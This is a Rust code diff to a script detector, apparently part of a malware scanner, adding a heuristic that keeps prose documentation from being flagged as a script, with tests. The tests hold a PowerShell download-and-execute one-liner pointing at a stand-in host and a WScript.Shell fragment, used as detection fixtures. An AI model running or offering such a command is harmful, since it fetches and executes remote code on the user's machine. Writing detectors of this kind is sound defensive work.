@@ -270,6 +270,11 @@ pub fn detect(data: &[u8]) -> Option<ScriptHit> {
         ind.extend(shown(&[Class::PsAction]));
         return hit(ScriptKind::PowerShell, ind);
     }
+    // From here on the evidence is a handful of words that documentation can quote too (a README
+    // with an install one-liner): text that is mostly sentences is not taken for a script.
+    if mostly_prose(text) {
+        return None;
+    }
     if has(Class::Factory) && has(Class::WshObject) {
         let js =
             text_has(text, b"activexobject(") || (has(Class::JsSyntax) && !has(Class::VbSyntax));
@@ -300,6 +305,48 @@ pub fn detect(data: &[u8]) -> Option<ScriptHit> {
         return hit(ScriptKind::Batch, batch);
     }
     None
+}
+
+/// More than half the non-empty lines (of the first 2,000) read like sentences: six or more words,
+/// almost only letters, none of the brackets, operators and sigils code is made of.
+fn mostly_prose(text: &[u8]) -> bool {
+    let (mut lines, mut prose) = (0usize, 0usize);
+    for line in text.split(|&b| b == b'\n').take(2000) {
+        let line = line.trim_ascii();
+        if line.is_empty() {
+            continue;
+        }
+        lines += 1;
+        // Comment lines are code, however wordy: junk comments are how scripts get padded.
+        let comment = [&b"'"[..], b"//", b"/*", b"::", b"<#"]
+            .iter()
+            .any(|p| line.starts_with(p))
+            || line
+                .get(..4)
+                .is_some_and(|p| p.eq_ignore_ascii_case(b"rem "));
+        if comment {
+            continue;
+        }
+        let words = line
+            .split(|b| b.is_ascii_whitespace())
+            .filter(|w| !w.is_empty())
+            .count();
+        let code = line.iter().any(|b| {
+            matches!(
+                b,
+                b'(' | b')' | b'=' | b';' | b'$' | b'{' | b'}' | b'%' | b'|' | b'"'
+            )
+        });
+        let letters = line
+            .iter()
+            .filter(|b| b.is_ascii_alphabetic() || **b >= 0x80)
+            .count();
+        let visible = line.iter().filter(|b| !b.is_ascii_whitespace()).count();
+        if words >= 6 && !code && letters * 10 >= visible * 8 {
+            prose += 1;
+        }
+    }
+    lines > 0 && prose * 2 > lines
 }
 
 fn text_has(text: &[u8], needle: &[u8]) -> bool {
@@ -469,6 +516,30 @@ mod tests {
             assert_eq!(kind(text), None, "{text}");
         }
         assert_eq!(detect(b"\x00\x01\x02binary\x00\x00"), None);
+        // Documentation quoting an install one-liner among its sentences.
+        let mut doc = String::new();
+        for _ in 0..10 {
+            doc.push_str(
+                "Install the build tools from the vendor site before you continue here.\n",
+            );
+        }
+        doc.push_str(
+            "iex ((New-Object System.Net.WebClient).DownloadString('https://x.example/i.ps1'))\n",
+        );
+        assert_eq!(kind(&doc), None);
+        // Padding a script with wordy comments does not make it prose.
+        let mut padded = String::from("Dim sh\r\nSet sh = CreateObject(\"WScript.Shell\")\r\n");
+        for _ in 0..50 {
+            padded.push_str("' the quick brown fox jumps over the lazy dog\r\n");
+        }
+        assert_eq!(kind(&padded), Some(ScriptKind::VbScript));
+        // The same one-liner on its own is a script.
+        assert_eq!(
+            kind(
+                "iex ((New-Object System.Net.WebClient).DownloadString('https://x.example/i.ps1'))\n"
+            ),
+            Some(ScriptKind::PowerShell)
+        );
     }
 
     #[test]
